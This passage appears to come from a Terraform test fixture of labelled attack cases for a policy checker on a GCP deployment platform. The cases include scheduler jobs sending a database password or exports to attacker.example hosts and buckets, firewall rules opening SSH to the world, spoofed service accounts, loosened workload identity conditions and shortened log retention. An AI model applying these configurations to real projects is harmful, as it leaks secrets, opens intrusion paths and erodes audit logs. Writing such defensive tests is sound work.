    headers = { "Content-Type" = random_password.db.result }
  }
}
# attack: a password as a header
resource "google_cloud_scheduler_job" "o11" {
  name     = "o11${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri     = "https://hooks.example.com/nightly"
    headers = { "X-Key" = random_password.db.result }
  }
}
# attack: a header to prove who asks
resource "google_cloud_scheduler_job" "o12" {
  name     = "o12${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri     = "https://hooks.example.com/nightly"
    headers = { "Authorization" = "Bearer ${random_string.r.result}" }
  }
}
# attack: the metadata server
resource "google_cloud_scheduler_job" "o13" {
  name     = "o13${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://metadata.google.internal/computeMetadata/v1/"
  }
}
# attack: an address that only apply can tell
resource "google_cloud_scheduler_job" "o14" {
  name     = "o14${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://${random_string.r.result}.attacker.example/x"
  }
}
# attack: Google's own API, as an own account
resource "google_cloud_scheduler_job" "o15" {
  name     = "o15${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://firestore.googleapis.com/v1/projects/demo-project/databases/docs-abcde:exportDocuments"
    oauth_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: Google's own API for SQL, as an own account
resource "google_cloud_scheduler_job" "o16" {
  name     = "o16${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri  = "https://sqladmin.googleapis.com/v1/projects/demo-project/instances/db-abcde/export"
    body = base64encode(jsonencode({ exportContext = { uri = "gs://attacker/x" } }))
    oauth_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: a database's state in what is sent
resource "google_cloud_scheduler_job" "o17" {
  name     = "o17${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = base64encode(jsonencode({ ip = google_sql_database_instance.db.server_ca_cert }))
  }
}
locals {
  sent = base64encode("{\"p\": \"${random_password.db.result}\"}")
}
# attack: an address outside from a list
resource "google_cloud_scheduler_job" "each_call" {
  for_each = toset(["https://hooks.example.com/nightly", "https://attacker.example/x"])
  name     = "c${length(each.value)}${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = each.value
  }
}
# attack: a target that is made
resource "google_cloud_scheduler_job" "dynamic_call" {
  name     = "dc${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  dynamic "http_target" {
    for_each = ["https://attacker.example/x"]
    content {
      uri = http_target.value
    }
  }
}
# attack: messages to another project's topic
resource "google_cloud_scheduler_job" "topic_call" {
  name     = "tc${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  pubsub_target {
    topic_name = "projects/attacker-prj/topics/x"
    data       = base64encode("x")
  }
}
# attack: SSH from the world
resource "google_compute_firewall" "f0" {
  name    = "f0${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = ["0.0.0.0/0"]
  allow {
    protocol = "tcp"
    ports    = ["22"]
  }
}
# attack: SSH in a range of ports
resource "google_compute_firewall" "f1" {
  name    = "f1${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = ["0.0.0.0/0"]
  allow {
    protocol = "tcp"
    ports    = ["20-80"]
  }
}
# attack: everything from the world by a number
resource "google_compute_firewall" "f2" {
  name    = "f2${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = ["0.0.0.0/0"]
  allow {
    protocol = "6"
  }
}
# attack: every protocol from half of the world
resource "google_compute_firewall" "f3" {
  name    = "f3${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = ["0.0.0.0/1"]
  allow {
    protocol = "all"
  }
}
# attack: no range at all
resource "google_compute_firewall" "f4" {
  name    = "f4${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  allow {
    protocol = "tcp"
    ports    = ["3306"]
  }
}
# attack: a database's port behind a tag and the world
resource "google_compute_firewall" "f5" {
  name    = "f5${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = ["0.0.0.0/0"]
  source_tags   = ["inside"]
  allow {
    protocol = "tcp"
    ports    = ["5432"]
  }
}
# attack: a network of another deployment
resource "google_compute_firewall" "f6" {
  name    = "f6${var.name_suffix}"
  network = "default"
  source_ranges = ["10.0.0.0/8"]
  allow {
    protocol = "tcp"
    ports    = ["22"]
  }
}
# attack: SSH from the world by a block that is made
resource "google_compute_firewall" "f7" {
  name    = "f7${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = ["0.0.0.0/0"]
  dynamic "allow" {
    for_each = ["22"]
    content {
      protocol = "tcp"
      ports    = [allow.value]
    }
  }
}
# attack: SSH from the world in a variable's words
resource "google_compute_firewall" "f8" {
  name    = "f8${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = [format("%s/%d", cidrhost("0.0.0.0/0", 0), 0)]
  allow {
    protocol = "tcp"
    ports    = [tostring(11 * 2)]
  }
}
# attack: port 2222 from the world, which nobody names
resource "google_compute_firewall" "f9" {
  name    = "f9${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges = ["0.0.0.0/0"]
  allow {
    protocol = "tcp"
    ports    = ["2222"]
  }
}
# attack: for everything that runs as another's account
resource "google_compute_firewall" "f10" {
  name    = "f10${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_ranges           = ["10.0.0.0/8"]
  target_service_accounts = ["infraai-tf-apply@demo-project.iam.gserviceaccount.com"]
  allow {
    protocol = "tcp"
    ports    = ["22"]
  }
}
# attack: from a stranger's machines by their account
resource "google_compute_firewall" "f11" {
  name    = "f11${var.name_suffix}"
  network = google_compute_network.backend_vpc.id
  source_service_accounts = ["thief@attacker-prj.iam.gserviceaccount.com"]
  allow {
    protocol = "tcp"
    ports    = ["22"]
  }
}
resource "google_compute_firewall" "kept_in" {
  name               = "kept-in${var.name_suffix}"
  network            = google_compute_network.backend_vpc.id
  direction          = "EGRESS"
  priority           = 1000
  destination_ranges = ["0.0.0.0/0"]
  deny {
    protocol = "all"
  }
}
# attack: all that is kept in let out by a rule before it
resource "google_compute_firewall" "f12" {
  name               = "f12${var.name_suffix}"
  network            = google_compute_network.backend_vpc.id
  direction          = "EGRESS"
  priority           = 10
  destination_ranges = ["0.0.0.0/0"]
  allow {
    protocol = "all"
  }
}
# attack: the same in halves
resource "google_compute_firewall" "f13" {
  name               = "f13${var.name_suffix}"
  network            = google_compute_network.backend_vpc.id
  direction          = "EGRESS"
  priority           = 10
  destination_ranges = ["0.0.0.0/1", "128.0.0.0/1"]
  allow {
    protocol = "tcp"
  }
  allow {
    protocol = "udp"
  }
}
# attack: an account that is named like the platform's
resource "google_service_account" "a0" {
  account_id = "infraai-tf-apply"
}
# attack: an account that carries another deployment's end
resource "google_service_account" "a1" {
  account_id = "mine-zzzzz"
}
# attack: an account of another project
resource "google_service_account" "a2" {
  project    = "attacker-prj"
  account_id = "a2${var.name_suffix}"
}
# attack: pipelines of a repository that nobody names
resource "google_iam_workload_identity_pool_provider" "w0" {
  workload_identity_pool_id          = google_iam_workload_identity_pool.ci.workload_identity_pool_id
  workload_identity_pool_provider_id = "w0${var.name_suffix}"
  attribute_condition                = "assertion.repository == \"attacker/shop\""
  attribute_mapping = {
    "google.subject"       = "assertion.sub"
    "attribute.repository" = "assertion.repository"
  }
  oidc {
    issuer_uri = "https://token.actions.githubusercontent.com"
  }
}
# attack: every branch of the repository, where one is named
resource "google_iam_workload_identity_pool_provider" "w1" {
  workload_identity_pool_id          = google_iam_workload_identity_pool.ci.workload_identity_pool_id
  workload_identity_pool_provider_id = "w1${var.name_suffix}"
  attribute_condition                = "assertion.repository == \"acme/shop\""
  attribute_mapping = {
    "google.subject"       = "assertion.sub"
    "attribute.repository" = "assertion.repository"
  }
  oidc {
    issuer_uri = "https://token.actions.githubusercontent.com"
  }
}
# attack: another branch than the named one
resource "google_iam_workload_identity_pool_provider" "w2" {
  workload_identity_pool_id          = google_iam_workload_identity_pool.ci.workload_identity_pool_id
  workload_identity_pool_provider_id = "w2${var.name_suffix}"
  attribute_condition                = "assertion.repository == \"acme/shop\" && assertion.ref == \"refs/heads/anything\""
  attribute_mapping = {
    "google.subject"       = "assertion.sub"
    "attribute.repository" = "assertion.repository"
  }
  oidc {
    issuer_uri = "https://token.actions.githubusercontent.com"
  }
}
# attack: the branch or anything
resource "google_iam_workload_identity_pool_provider" "w3" {
  workload_identity_pool_id          = google_iam_workload_identity_pool.ci.workload_identity_pool_id
  workload_identity_pool_provider_id = "w3${var.name_suffix}"
  attribute_condition                = "assertion.repository == \"acme/shop\" && assertion.ref == \"refs/heads/main\" || true"
  attribute_mapping = {
    "google.subject"       = "assertion.sub"
    "attribute.repository" = "assertion.repository"
  }
  oidc {
    issuer_uri = "https://token.actions.githubusercontent.com"
  }
}
# attack: the whole pool comes in
resource "google_service_account_iam_member" "w4" {
  service_account_id = google_service_account.mine.name
  role               = "roles/iam.workloadIdentityUser"
  member             = "principalSet://iam.googleapis.com/${google_iam_workload_identity_pool.ci.name}/*"
}
# attack: the project's logs are kept no longer
resource "google_logging_project_bucket_config" "l0" {
  project        = var.project_id
  location       = "global"
  bucket_id      = "_Default"
  retention_days = 1
}
# attack: logs that nobody can delete any more
resource "google_logging_project_bucket_config" "l1" {
  project        = var.project_id
  location       = "global"
  bucket_id      = "l1${var.name_suffix}"
  retention_days = 3650
  locked         = true
}
